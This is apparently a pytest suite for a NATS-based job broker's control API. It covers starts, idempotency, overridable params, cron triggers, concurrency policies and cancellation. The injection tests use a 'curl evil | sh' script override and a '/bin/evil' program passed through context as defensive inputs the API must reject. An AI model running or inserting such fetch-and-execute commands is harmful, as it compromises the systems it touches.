"""Executions through the control API: starting tasks and batches, what lands on the
wire (BD_RUNS, BD_EVENTS), cron triggers from BD_TRIGGERS, cancelling, listing.

No runner is running in these tests, so every execution stays `queued` and its run
command stays on the BD_RUNS work queue. Run commands and events are read with stream
`get_last_msg` / `stream_info(subjects_filter=...)`, which do not consume anything.
"""

from __future__ import annotations

import asyncio
import json
import re
import uuid
from typing import Any

import pytest
from expectations import expect_error
from nats.js.errors import NotFoundError

RUNS, TRIGGERS, EVENTS = "BD_RUNS", "BD_TRIGGERS", "BD_EVENTS"
RFC3339_MS = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")


# ---- helpers ------------------------------------------------------------------------


async def last_json(nc, stream: str, subject: str) -> dict[str, Any]:
    """The newest message on `subject` in `stream`, decoded (nothing is consumed)."""
    msg = await nc.jetstream().get_last_msg(stream, subject)
    return json.loads(msg.data)


async def count_on(nc, stream: str, subject: str) -> int:
    """How many messages `stream` holds on exactly `subject`."""
    info = await nc.jetstream().stream_info(stream, subjects_filter=subject)
    return (info.state.subjects or {}).get(subject, 0)


async def wait_for(predicate, timeout: float = 8.0, interval: float = 0.1):
    """Poll an async predicate until it returns something truthy; return that."""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while True:
        result = await predicate()
        if result:
            return result
        if loop.time() > deadline:
            return result
        await asyncio.sleep(interval)


async def executions_of_trigger(api, trigger_id: str) -> list[dict[str, Any]]:
    page = await api.call("exec", "list", {"filter": {"trigger_id": trigger_id}})
    return page["items"]


async def trigger_drained(nc, org: str, batch_id: str) -> bool:
    """True once the work-queue stream holds no trigger for the batch (all acked)."""
    try:
        await nc.jetstream().get_last_msg(TRIGGERS, f"bd.{org}.trigger.{batch_id}")
    except NotFoundError:
        return True
    return False


def cron_trigger(batch_id: str, scheduled_at: str = "2026-11-23T03:00:00.000Z", **extra: Any) -> dict[str, Any]:
    return {
        "trigger_id": uuid.uuid4().hex,
        "batch_id": batch_id,
        "source": "cron",
        "scheduled_at": scheduled_at,
        "fired_at": "2026-11-23T03:00:00.012Z",
        "context": {"tick": scheduled_at},
        **extra,
    }


async def publish_trigger(nc, org: str, trigger: dict[str, Any], msg_id: str | None = None):
    msg_id = msg_id or f"{trigger['batch_id']}@{trigger['scheduled_at']}"
    return await nc.jetstream().publish(
        f"bd.{org}.trigger.{trigger['batch_id']}", json.dumps(trigger).encode(), headers={"Nats-Msg-Id": msg_id}
    )


# ---- task.start ---------------------------------------------------------------------


async def test_task_start_creates_a_queued_manual_execution(api, make_task):
    task = await make_task(pool="etl")
    reply = await api.call("task", "start", {"id": task["id"]})
    assert set(reply) == {"execution_id"}
    assert isinstance(reply["execution_id"], str) and reply["execution_id"]

    execution = await api.call("exec", "get", {"id": reply["execution_id"]})
    assert execution["id"] == reply["execution_id"]
    assert execution["status"] == "queued"
    assert execution["source"] == "manual"
    assert execution["task_id"] == task["id"]
    assert execution["batch_id"] is None
    assert execution["pool"] == "etl"
    assert RFC3339_MS.match(execution["queued_at"]), execution["queued_at"]
    assert execution["started_at"] is None and execution["finished_at"] is None
    assert len(execution["actions"]) == 1
    assert execution["actions"][0]["index"] == 0
    assert execution["actions"][0]["task_id"] == task["id"]
    assert execution["actions"][0]["status"] == "queued"


async def test_task_start_source_api_when_asked(api, make_task):
    task = await make_task()
    reply = await api.call("task", "start", {"id": task["id"], "source": "api"})
    execution = await api.call("exec", "get", {"id": reply["execution_id"]})
    assert execution["source"] == "api"


async def test_task_start_rejects_a_source_clients_may_not_claim(api, make_task):
    task = await make_task()
    err = await expect_error(400, api.call("task", "start", {"id": task["id"], "source": "cron"}))
    assert "source" in err.message


async def test_each_start_is_a_new_execution(api, make_task):
    task = await make_task()
    first = await api.call("task", "start", {"id": task["id"]})
    second = await api.call("task", "start", {"id": task["id"]})
    assert first["execution_id"] != second["execution_id"]
    page = await api.call("exec", "list", {"filter": {"task_id": task["id"]}})
    assert page["total"] == 2
    assert {e["id"] for e in page["items"]} == {first["execution_id"], second["execution_id"]}


async def test_a_start_sent_again_with_its_idempotency_key_starts_nothing_new(api, nc, org, make_task):
    task, other = await make_task(), await make_task()
    first = await api.call("task", "start", {"id": task["id"], "idempotency_key": "deploy-42"})
    again = await api.call("task", "start", {"id": task["id"], "idempotency_key": "deploy-42", "context": {"x": 1}})
    assert first == {"execution_id": first["execution_id"], "duplicate": False}
    assert again == {"execution_id": first["execution_id"], "duplicate": True}
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 1
    execution = await api.call("exec", "get", {"id": first["execution_id"]})
    assert execution["context"] == {}  # the first request's, not the repeat's

    another_key = await api.call("task", "start", {"id": task["id"], "idempotency_key": "deploy-43"})
    same_key_other_task = await api.call("task", "start", {"id": other["id"], "idempotency_key": "deploy-42"})
    assert len({first["execution_id"], another_key["execution_id"], same_key_other_task["execution_id"]}) == 3
    assert not another_key["duplicate"] and not same_key_other_task["duplicate"]
    page = await api.call("exec", "list", {"filter": {"task_id": task["id"]}})
    assert page["total"] == 2


async def test_a_batch_start_sent_again_with_its_idempotency_key_starts_nothing_new(api, nc, org, make_batch):
    batch = await make_batch()
    first = await api.call("batch", "start", {"id": batch["id"], "idempotency_key": "nightly-2026-12-02"})
    again = await api.call("batch", "start", {"id": batch["id"], "idempotency_key": "nightly-2026-12-02"})
    assert (again["execution_id"], again["trigger_id"]) == (first["execution_id"], first["trigger_id"])
    assert (first["duplicate"], again["duplicate"]) == (False, True)
    assert len(await executions_of_trigger(api, first["trigger_id"])) == 1
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 1
    assert await count_on(nc, EVENTS, f"bd.{org}.evt.trigger.{batch['id']}") == 1


@pytest.mark.parametrize("key", ["", "two words", "x" * 129, 42, "caf\u00e9", {"nested": "object"}])
async def test_a_malformed_idempotency_key_is_400_and_starts_nothing(api, nc, org, make_task, key):
    task = await make_task()
    body = {"id": task["id"], "idempotency_key": key}
    err = await expect_error(400, api.call("task", "start", body))
    assert "idempotency_key" in err.message
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0
    assert (await api.call("exec", "list", {"filter": {"task_id": task["id"]}}))["total"] == 0


async def _keyed_execution_written(nc, org: str, task: dict[str, Any], key: str, queued_at: str) -> str:
    """What a broker that died between writing a keyed start's execution and enqueueing
    its run leaves behind: the execution, `queued`, and no run."""
    from broker import ids
    from broker.buckets import open_buckets
    from broker.types import ActionState, Execution

    execution_id = ids.derived_id(f"{org}/task/{task['id']}/{key}", "start")
    buckets = await open_buckets(nc.jetstream())
    await buckets.execs.create(org, execution_id, Execution(
        id=execution_id, org=org, task_id=task["id"], name=task["name"], pool="default", queued_at=queued_at,
        actions=[ActionState(index=0, task_id=task["id"])]))
    return execution_id


async def test_a_start_sent_again_enqueues_the_run_its_first_try_did_not(api, nc, org, make_task):
    from broker.timestamps import now_iso

    task = await make_task()
    orphan = await _keyed_execution_written(nc, org, task, "k1", now_iso())
    reply = await api.call("task", "start", {"id": task["id"], "idempotency_key": "k1"})
    assert reply == {"execution_id": orphan, "duplicate": True}
    assert (await last_json(nc, RUNS, f"bd.{org}.run.default"))["execution_id"] == orphan
    await api.call("task", "start", {"id": task["id"], "idempotency_key": "k1"})
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 1  # the stream dropped the third as a duplicate


async def test_a_start_sent_again_long_after_does_not_enqueue_a_second_copy(api, nc, org, make_task):
    task = await make_task()
    orphan = await _keyed_execution_written(nc, org, task, "k2", "2026-01-01T00:00:00.000Z")
    reply = await api.call("task", "start", {"id": task["id"], "idempotency_key": "k2"})
    assert reply == {"execution_id": orphan, "duplicate": True}
    # past BD_RUNS' de-duplication window a copy could not be told from the first: none is sent
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0


async def test_task_start_enqueues_a_run_command_with_merged_params(api, nc, org, make_task):
    task = await make_task(
        command=["echo", "{{ greeting }}", "{{ name }}"], params={"greeting": "hello", "name": "task-default"},
        overridable=[{"name": "name"}, {"name": "extra", "type": "integer"}],
    )
    reply = await api.call(
        "task", "start", {"id": task["id"], "params": {"name": "override", "extra": 3}, "context": {"who": "ops"}}
    )
    subject = f"bd.{org}.run.default"
    command = await last_json(nc, RUNS, subject)
    assert command["execution_id"] == reply["execution_id"]
    assert command["attempt"] == 1
    assert command["context"] == {"who": "ops"}
    assert command.get("batch") is None
    assert len(command["tasks"]) == 1
    snapshot = command["tasks"][0]
    assert snapshot["id"] == task["id"]
    assert snapshot["command"] == ["echo", "{{ greeting }}", "{{ name }}"]
    # request params win over the task's, the task's others stay
    assert snapshot["params"] == {"greeting": "hello", "name": "override", "extra": 3}
    assert await count_on(nc, RUNS, subject) == 1

    # the definition itself is not changed by a start's params
    stored = await api.call("task", "get", {"id": task["id"]})
    assert stored["params"] == {"greeting": "hello", "name": "task-default"}


async def test_a_start_sets_only_the_params_its_task_declares_overridable(api, nc, org, make_task):
    task = await make_task(
        kind="module", module="shell", command=None, params={"script": "echo nightly backup"},
        overridable=[{"name": "target", "type": "string", "pattern": "/srv/[a-z]+"},
                     {"name": "mode", "choices": ["full", "incremental"]}, {"name": "days", "type": "integer"}],
    )
    # the code a module runs is the admin's: an operator's start may not replace it
    error = await expect_error(403, api.call("task", "start", {"id": task["id"],
                                                                "params": {"script": "curl evil | sh"}}))
    assert "does not let a start set script" in error.message and "days, mode, target" in error.message
    assert error.details == {"params": ["script"], "overridable": ["days", "mode", "target"]}
    for params, said in (({"days": "7"}, "param 'days' must be an integer, got string"),
                         ({"days": True}, "param 'days' must be an integer, got boolean"),
                         ({"mode": "partial"}, 'param \'mode\' must be one of "full", "incremental"'),
                         ({"target": "/etc"}, "param 'target' must match /srv/[a-z]+")):
        error = await expect_error(400, api.call("task", "start", {"id": task["id"], "params": params}))
        assert said in error.message, error.message
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0  # nothing refused was enqueued
    await api.call("task", "start", {"id": task["id"], "params": {"target": "/srv/db", "mode": "full", "days": 7}})
    command = await last_json(nc, RUNS, f"bd.{org}.run.default")
    assert command["tasks"][0]["params"] == {"script": "echo nightly backup", "target": "/srv/db", "mode": "full",
                                             "days": 7}


async def test_a_commands_program_comes_from_its_params_never_from_a_starts_context(api, nc, org, make_task,
                                                                                     make_batch):
    task = await make_task(command=["{{ tool }}", "--to", "{{ target }}"], params={"target": "/srv"})
    error = await expect_error(403, api.call("task", "start", {"id": task["id"], "context": {"tool": "/bin/evil"}}))
    assert "its program '{{ tool }}' takes tool, which is not among its params" in error.message
    batch = await make_batch(task_ids=[task["id"]])
    await expect_error(403, api.call("batch", "start", {"id": batch["id"], "context": {"tool": "/bin/evil"}}))
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0
    # the admin's param names the program; the context still fills the other arguments
    fixed = await make_task(command=["{{ tool }}", "{{ target }}"], params={"tool": "rsync"})
    await api.call("task", "start", {"id": fixed["id"], "context": {"tool": "/bin/evil", "target": "/srv"}})
    command = await last_json(nc, RUNS, f"bd.{org}.run.default")
    assert command["tasks"][0]["params"] == {"tool": "rsync"} and command["context"]["target"] == "/srv"


async def test_overridable_params_are_checked_when_the_task_is_defined(api):
    for overridable, said in (
        ([{"name": "a"}, {"name": "a"}], "`overridable` names a more than once"),
        ([{"name": "a", "pattern": "("}], "`pattern` is not a regular expression"),
        ([{"name": "a", "type": "integer", "pattern": "x"}], "`pattern` applies to strings only"),
        ([{"name": "a", "type": "integer", "choices": [1, "two"]}], "choice 'two' must be an integer"),
        ([{"name": "a b"}], "Expected `str` matching regex"),
    ):
        error = await expect_error(400, api.call("task", "create", {"name": "t", "command": ["true"],
                                                                     "overridable": overridable}))
        assert said in error.message, error.message


async def test_run_command_is_a_snapshot_later_edits_do_not_change_it(api, nc, org, make_task):
    task = await make_task(command=["echo", "v1"])
    reply = await api.call("task", "start", {"id": task["id"]})
    await api.call("task", "update", {"id": task["id"], "command": ["echo", "v2"]})
    command = await last_json(nc, RUNS, f"bd.{org}.run.default")
    assert command["execution_id"] == reply["execution_id"]
    assert command["tasks"][0]["command"] == ["echo", "v1"]


async def test_pool_override_routes_the_run_to_that_pool(api, nc, org, make_task):
    task = await make_task(pool="default")
    reply = await api.call("task", "start", {"id": task["id"], "pool": "gpu"})
    command = await last_json(nc, RUNS, f"bd.{org}.run.gpu")
    assert command["execution_id"] == reply["execution_id"]
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0
    execution = await api.call("exec", "get", {"id": reply["execution_id"]})
    assert execution["pool"] == "gpu"


async def test_task_pool_routes_the_run_when_no_override(api, nc, org, make_task):
    task = await make_task(pool="reports")
    reply = await api.call("task", "start", {"id": task["id"]})
    command = await last_json(nc, RUNS, f"bd.{org}.run.reports")
    assert command["execution_id"] == reply["execution_id"]


async def test_task_start_publishes_the_state_event(api, nc, org, make_task):
    task = await make_task()
    reply = await api.call("task", "start", {"id": task["id"]})
    execution_id = reply["execution_id"]
    event = await last_json(nc, EVENTS, f"bd.{org}.evt.exec.{execution_id}.state")
    assert event["id"] == execution_id
    assert event["org"] == org
    assert event["status"] == "queued"
    assert event["task_id"] == task["id"]
    # the event is the whole current state, as exec.get has it
    assert event == await api.call("exec", "get", {"id": execution_id})


async def test_task_start_of_unknown_task_is_404(api, nc, org):
    err = await expect_error(404, api.call("task", "start", {"id": "no-such-task"}))
    assert "no-such-task" in err.message
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0
    assert (await api.call("exec", "list", {}))["total"] == 0


async def test_task_start_of_deleted_task_is_404(api, nc, org, make_task):
    task = await make_task()
    await api.call("task", "delete", {"id": task["id"]})
    await expect_error(404, api.call("task", "start", {"id": task["id"]}))
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0


async def test_task_start_without_id_is_400(api):
    await expect_error(400, api.call("task", "start", {}))


# ---- batch.start --------------------------------------------------------------------


async def test_batch_start_creates_one_execution_with_every_action(api, make_task, make_batch):
    first = await make_task(name="extract")
    second = await make_task(name="load")
    batch = await make_batch(task_ids=[first["id"], second["id"]], pool="etl")
    reply = await api.call("batch", "start", {"id": batch["id"]})
    assert set(reply) == {"execution_id", "trigger_id"}
    assert reply["execution_id"] and reply["trigger_id"]

    execution = await api.call("exec", "get", {"id": reply["execution_id"]})
    assert execution["batch_id"] == batch["id"]
    assert execution["trigger_id"] == reply["trigger_id"]
    assert execution["status"] == "queued"
    assert execution["source"] == "manual"
    assert execution["pool"] == "etl"
    assert [(a["index"], a["task_id"], a["status"]) for a in execution["actions"]] == [
        (0, first["id"], "queued"),
        (1, second["id"], "queued"),
    ]


async def test_batch_run_command_carries_batch_and_tasks_with_action_params(api, nc, org, make_task, make_batch):
    first = await make_task(name="extract", params={"table": "users", "limit": 10})
    second = await make_task(name="load", params={"target": "warehouse"})
    batch = await api.call(
        "batch",
        "create",
        {
            "name": "etl",
            "cron_expression": "0 3 * * *",
            "is_enabled": False,
            "run_on_startup": False,
            "actions": [
                {"task_id": first["id"], "params": {"limit": 500}},
                {"task_id": second["id"], "continue_on_error": True},
            ],
        },
    )
    reply = await api.call("batch", "start", {"id": batch["id"], "context": {"reason": "backfill"}})
    command = await last_json(nc, RUNS, f"bd.{org}.run.default")
    assert command["execution_id"] == reply["execution_id"]
    assert command["context"] == {"reason": "backfill"}
    assert command["batch"]["id"] == batch["id"]
    assert [a["task_id"] for a in command["batch"]["actions"]] == [first["id"], second["id"]]
    assert [t["id"] for t in command["tasks"]] == [first["id"], second["id"]]
    assert command["tasks"][0]["params"] == {"table": "users", "limit": 500}
    assert command["tasks"][1]["params"] == {"target": "warehouse"}


async def test_batch_start_publishes_a_trigger_event(api, nc, org, make_batch):
    batch = await make_batch()
    reply = await api.call("batch", "start", {"id": batch["id"], "context": {"k": "v"}})
    event = await last_json(nc, EVENTS, f"bd.{org}.evt.trigger.{batch['id']}")
    assert event["trigger_id"] == reply["trigger_id"]
    assert event["execution_id"] == reply["execution_id"]
    assert event["batch_id"] == batch["id"]
    assert event["source"] == "manual"
    assert event["context"] == {"k": "v"}
    assert not event.get("error")


async def test_manual_start_of_a_disabled_batch_works(api, make_batch):
    batch = await make_batch(is_enabled=False)
    assert batch["is_enabled"] is False
    reply = await api.call("batch", "start", {"id": batch["id"]})
    execution = await api.call("exec", "get", {"id": reply["execution_id"]})
    assert execution["status"] == "queued"
    assert execution["batch_id"] == batch["id"]


async def test_batch_start_of_unknown_batch_is_404(api):
    await expect_error(404, api.call("batch", "start", {"id": "no-such-batch"}))


async def test_batch_start_of_deleted_batch_is_404(api, make_batch):
    batch = await make_batch()
    await api.call("batch", "delete", {"id": batch["id"]})
    await expect_error(404, api.call("batch", "start", {"id": batch["id"]}))


# ---- triggers from BD_TRIGGERS ------------------------------------------------------


async def enabled_batch(make_batch) -> dict[str, Any]:
    # catch_up none: nothing but our own trigger messages may fire it
    return await make_batch(is_enabled=True, catch_up="none", cron_expression="0 3 * * *")


async def test_cron_trigger_makes_exactly_one_execution(api, nc, org, make_batch):
    batch = await enabled_batch(make_batch)
    trigger = cron_trigger(batch["id"])
    ack = await publish_trigger(nc, org, trigger)
    assert ack.stream == TRIGGERS and not ack.duplicate

    items = await wait_for(lambda: executions_of_trigger(api, trigger["trigger_id"]))
    assert len(items) == 1, items
    execution = items[0]
    assert execution["source"] == "cron"
    assert execution["batch_id"] == batch["id"]
    assert execution["status"] == "queued"
    assert execution["context"] == trigger["context"]

    assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]))
    assert len(await executions_of_trigger(api, trigger["trigger_id"])) == 1
    assert (await api.call("exec", "list", {"filter": {"batch_id": batch["id"]}}))["total"] == 1
    command = await last_json(nc, RUNS, f"bd.{org}.run.default")
    assert command["execution_id"] == execution["id"]
    event = await last_json(nc, EVENTS, f"bd.{org}.evt.trigger.{batch['id']}")
    assert event["trigger_id"] == trigger["trigger_id"]
    assert event["execution_id"] == execution["id"]


async def test_same_trigger_message_twice_is_deduplicated(api, nc, org, make_batch):
    batch = await enabled_batch(make_batch)
    trigger = cron_trigger(batch["id"])
    first = await publish_trigger(nc, org, trigger)
    second = await publish_trigger(nc, org, trigger)
    assert not first.duplicate
    assert second.duplicate and second.seq == first.seq

    items = await wait_for(lambda: executions_of_trigger(api, trigger["trigger_id"]))
    assert len(items) == 1
    assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]))
    page = await api.call("exec", "list", {"filter": {"batch_id": batch["id"]}})
    assert page["total"] == 1
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 1


async def test_same_trigger_id_under_two_message_ids_runs_once(api, nc, org, make_batch):
    """A scheduler that re-publishes a trigger with another Nats-Msg-Id (JetStream
    cannot de-duplicate it) still gets one execution: the broker is idempotent."""
    batch = await enabled_batch(make_batch)
    trigger = cron_trigger(batch["id"])
    await asyncio.gather(
        publish_trigger(nc, org, trigger, msg_id=f"{batch['id']}@{trigger['scheduled_at']}"),
        publish_trigger(nc, org, trigger, msg_id=f"{batch['id']}@{trigger['scheduled_at']}#again"),
    )
    assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]), timeout=10)
    items = await executions_of_trigger(api, trigger["trigger_id"])
    assert len(items) == 1, items
    page = await api.call("exec", "list", {"filter": {"batch_id": batch["id"]}})
    assert page["total"] == 1
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 1


async def test_same_trigger_id_redelivered_later_runs_once(api, nc, org, make_batch):
    batch = await enabled_batch(make_batch)
    trigger = cron_trigger(batch["id"])
    await publish_trigger(nc, org, trigger, msg_id="first")
    assert await wait_for(lambda: executions_of_trigger(api, trigger["trigger_id"]))
    assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]))
    await publish_trigger(nc, org, trigger, msg_id="second")
    assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]))
    assert len(await executions_of_trigger(api, trigger["trigger_id"])) == 1
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 1


async def test_two_different_ticks_make_two_executions(api, nc, org, make_batch):
    batch = await enabled_batch(make_batch)
    one = cron_trigger(batch["id"], scheduled_at="2026-11-23T03:00:00.000Z")
    two = cron_trigger(batch["id"], scheduled_at="2026-11-24T03:00:00.000Z")
    await publish_trigger(nc, org, one)
    await publish_trigger(nc, org, two)
    assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]))
    assert len(await executions_of_trigger(api, one["trigger_id"])) == 1
    assert len(await executions_of_trigger(api, two["trigger_id"])) == 1


async def test_cron_trigger_for_disabled_batch_is_refused_with_an_event(api, nc, org, make_batch):
    batch = await make_batch(is_enabled=False)
    trigger = cron_trigger(batch["id"])
    await publish_trigger(nc, org, trigger)
    subject = f"bd.{org}.evt.trigger.{batch['id']}"

    async def refused():
        try:
            return await last_json(nc, EVENTS, subject)
        except NotFoundError:
            return None

    event = await wait_for(refused)
    assert event, "no trigger event for the refused trigger"
    assert event["trigger_id"] == trigger["trigger_id"]
    assert event["batch_id"] == batch["id"]
    assert event.get("execution_id") is None
    assert isinstance(event.get("error"), str) and event["error"]
    assert await executions_of_trigger(api, trigger["trigger_id"]) == []
    assert (await api.call("exec", "list", {}))["total"] == 0
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0


async def test_cron_trigger_for_unknown_batch_is_refused_with_an_event(api, nc, org):
    trigger = cron_trigger("ghost-batch")
    await publish_trigger(nc, org, trigger)

    async def refused():
        try:
            return await last_json(nc, EVENTS, f"bd.{org}.evt.trigger.ghost-batch")
        except NotFoundError:
            return None

    event = await wait_for(refused)
    assert event and event.get("error")
    assert (await api.call("exec", "list", {}))["total"] == 0


@pytest.mark.parametrize("payload", [
    b"\xff not json",
    b"[]",
    json.dumps({"trigger_id": "t-1", "batch_id": "some-other-batch", "source": "cron"}).encode(),
    json.dumps({"trigger_id": "t-2", "batch_id": "{batch}", "source": "nonsense"}).encode(),
])
async def test_bad_trigger_message_is_refused_and_the_consumer_keeps_going(api, nc, org, make_batch, payload):
    batch = await enabled_batch(make_batch)
    subject = f"bd.{org}.trigger.{batch['id']}"
    await nc.jetstream().publish(subject, payload.replace(b"{batch}", batch["id"].encode()),
                                 headers={"Nats-Msg-Id": uuid.uuid4().hex})

    async def refused():
        try:
            return await last_json(nc, EVENTS, f"bd.{org}.evt.trigger.{batch['id']}")
        except NotFoundError:
            return None

    event = await wait_for(refused)
    assert event and event.get("error"), event
    assert event["batch_id"] == batch["id"]
    assert (await api.call("exec", "list", {}))["total"] == 0

    # a good trigger after the bad one still runs
    trigger = cron_trigger(batch["id"])
    await publish_trigger(nc, org, trigger)
    items = await wait_for(lambda: executions_of_trigger(api, trigger["trigger_id"]))
    assert len(items) == 1


# ---- concurrency policies -------------------------------------------------------------


async def trigger_execution(api, nc, org: str, batch_id: str, scheduled_at: str) -> dict[str, Any]:
    """Publish a cron trigger for the batch and return the execution it made."""
    trigger = cron_trigger(batch_id, scheduled_at=scheduled_at)
    await publish_trigger(nc, org, trigger)
    items = await wait_for(lambda: executions_of_trigger(api, trigger["trigger_id"]))
    assert len(items) == 1, items
    return items[0]


async def test_forbid_records_a_skipped_execution_while_a_run_is_active(api, nc, org, make_batch):
    batch = await make_batch(is_enabled=True, catch_up="none", concurrency="forbid")
    first = await trigger_execution(api, nc, org, batch["id"], "2026-11-23T03:00:00.000Z")
    second = await trigger_execution(api, nc, org, batch["id"], "2026-11-24T03:00:00.000Z")

    assert first["status"] == "queued"
    assert second["status"] == "skipped"
    assert first["id"] in second["error"] and "forbid" in second["error"]
    assert second["finished_at"] and all(a["status"] == "skipped" for a in second["actions"])
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 1, "a skipped execution is never enqueued"
    event = await wait_for(lambda: last_json(nc, EVENTS, f"bd.{org}.evt.trigger.{batch['id']}"))
    assert event["execution_id"] == second["id"] and event["status"] == "skipped"

    await api.call("exec", "cancel", {"id": first["id"]})
    third = await trigger_execution(api, nc, org, batch["id"], "2026-11-25T03:00:00.000Z")
    assert third["status"] == "queued", "once the active run ended, the next trigger runs"


async def test_forbid_refuses_a_manual_start_while_a_run_is_active(api, make_batch):
    batch = await make_batch(concurrency="forbid")
    started = await api.call("batch", "start", {"id": batch["id"]})
    error = await expect_error(409, api.call("batch", "start", {"id": batch["id"]}))
    assert started["execution_id"] in error.message
    assert (await api.call("exec", "list", {"filter": {"batch_id": batch["id"]}}))["total"] == 1


async def test_replace_cancels_the_active_run_and_starts_the_new_one(api, nc, org, make_batch):
    batch = await make_batch(is_enabled=True, catch_up="none", concurrency="replace")
    first = await trigger_execution(api, nc, org, batch["id"], "2026-11-23T03:00:00.000Z")
    second = await trigger_execution(api, nc, org, batch["id"], "2026-11-24T03:00:00.000Z")

    assert second["status"] == "queued"
    replaced = await api.call("exec", "get", {"id": first["id"]})
    assert replaced["status"] == "canceled"
    assert second["id"] in replaced["error"]


async def test_replace_cancels_a_running_run_on_its_runner(api, nc, org, make_task, make_batch, runner_factory,
                                                           wait_exec):
    task = await make_task(command=["sleep", "30"])
    batch = await make_batch(task_ids=[task["id"]], is_enabled=True, catch_up="none", concurrency="replace")
    await runner_factory()
    first = await trigger_execution(api, nc, org, batch["id"], "2026-11-23T03:00:00.000Z")
    await wait_exec(first["id"], "running")
    second = await trigger_execution(api, nc, org, batch["id"], "2026-11-24T03:00:00.000Z")

    assert (await wait_exec(first["id"], timeout=10))["status"] == "canceled"
    assert (await wait_exec(second["id"], "running"))["status"] == "running"
    await api.call("exec", "cancel", {"id": second["id"]})
    assert (await wait_exec(second["id"]))["status"] == "canceled"


async def test_allow_runs_triggers_side_by_side(api, nc, org, make_batch):
    batch = await make_batch(is_enabled=True, catch_up="none", concurrency="allow")
    first = await trigger_execution(api, nc, org, batch["id"], "2026-11-23T03:00:00.000Z")
    second = await trigger_execution(api, nc, org, batch["id"], "2026-11-24T03:00:00.000Z")
    assert first["status"] == second["status"] == "queued"
    assert (await api.call("exec", "get", {"id": first["id"]}))["status"] == "queued"
    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 2


async def test_concurrent_triggers_of_a_forbid_batch_start_one_run(api, nc, org, make_batch):
    """Triggers handled at the same moment cannot both find the batch idle."""
    batch = await make_batch(is_enabled=True, catch_up="none", concurrency="forbid")
    triggers = [cron_trigger(batch["id"], scheduled_at=f"2026-11-{day:02d}T03:00:00.000Z") for day in range(1, 11)]
    await asyncio.gather(*(publish_trigger(nc, org, t) for t in triggers))
    assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]), timeout=10)
    page = await api.call("exec", "list", {"filter": {"batch_id": batch["id"]}, "per_page": 100})
    statuses = sorted(e["status"] for e in page["items"])
    assert statuses == ["queued"] + ["skipped"] * 9, statuses


# ---- exec.cancel --------------------------------------------------------------------


async def test_cancel_a_queued_execution(api, nc, org, make_task):
    task = await make_task()
    execution_id = (await api.call("task", "start", {"id": task["id"]}))["execution_id"]
    reply = await api.call("exec", "cancel", {"id": execution_id})
    assert reply == {"acknowledged": "ok"}

    execution = await api.call("exec", "get", {"id": execution_id})
    assert execution["status"] == "canceled"
    assert execution["finished_at"] and RFC3339_MS.match(execution["finished_at"])
    assert execution["finished_at"] >= execution["queued_at"]
    assert all(a["status"] == "canceled" for a in execution["actions"])

    event = await last_json(nc, EVENTS, f"bd.{org}.evt.exec.{execution_id}.state")
    assert event["status"] == "canceled"


async def test_cancel_twice_is_409(api, make_task):
    task = await make_task()
    execution_id = (await api.call("task", "start", {"id": task["id"]}))["execution_id"]
    await api.call("exec", "cancel", {"id": execution_id})
    err = await expect_error(409, api.call("exec", "cancel", {"id": execution_id}))
    assert err.details.get("status") == "canceled"
    assert (await api.call("exec", "get", {"id": execution_id}))["status"] == "canceled"


async def test_cancel_unknown_execution_is_404(api):
    await expect_error(404, api.call("exec", "cancel", {"id": "01JUNKNOWNEXECUTION0000000"}))


async def test_cancel_of_not_cancellable_task_is_409(api, make_task):
    task = await make_task(cancellable=False)
    execution_id = (await api.call("task", "start", {"id": task["id"]}))["execution_id"]
    err = await expect_error(409, api.call("exec", "cancel", {"id": execution_id}))
    assert "cancellable" in err.message or err.details.get("cancellable") is False
    assert (await api.call("exec", "get", {"id": execution_id}))["status"] == "queued"


async def test_cancel_of_batch_with_a_not_cancellable_task_is_409(api, make_task, make_batch):
    ok = await make_task()
    stubborn = await make_task(cancellable=False)
    batch = await make_batch(task_ids=[ok["id"], stubborn["id"]])
    execution_id = (await api.call("batch", "start", {"id": batch["id"]}))["execution_id"]
    await expect_error(409, api.call("exec", "cancel", {"id": execution_id}))


# ---- listing, runners, modules ------------------------------------------------------


async def test_exec_list_filters_by_status(api, make_task):
    task = await make_task()
    ids = [(await api.call("task", "start", {"id": task["id"]}))["execution_id"] for _ in range(3)]
    await api.call("exec", "cancel", {"id": ids[1]})

    queued = await api.call("exec", "list", {"filter": {"status": "queued"}})
    assert {e["id"] for e in queued["items"]} == {ids[0], ids[2]}
    assert queued["total"] == 2
    canceled = await api.call("exec", "list", {"filter": {"status": "canceled"}})
    assert [e["id"] for e in canceled["items"]] == [ids[1]]
    either = await api.call("exec", "list", {"filter": {"status": ["queued", "canceled"]}})
    assert either["total"] == 3
    running = await api.call("exec", "list", {"filter": {"status": "running"}})
    assert running["items"] == [] and running["total"] == 0


async def test_exec_list_default_order_is_newest_first_and_pages(api, make_task):
    task = await make_task()
    ids = []
    for _ in range(3):
        ids.append((await api.call("task", "start", {"id": task["id"]}))["execution_id"])
        await asyncio.sleep(0.005)  # distinct queued_at milliseconds
    page = await api.call("exec", "list", {})
    assert [e["id"] for e in page["items"]] == list(reversed(ids))
    first = await api.call("exec", "list", {"per_page": 2, "page": 1})
    second = await api.call("exec", "list", {"per_page": 2, "page": 2})
    assert (first["total"], first["pages"], second["page"]) == (3, 2, 2)
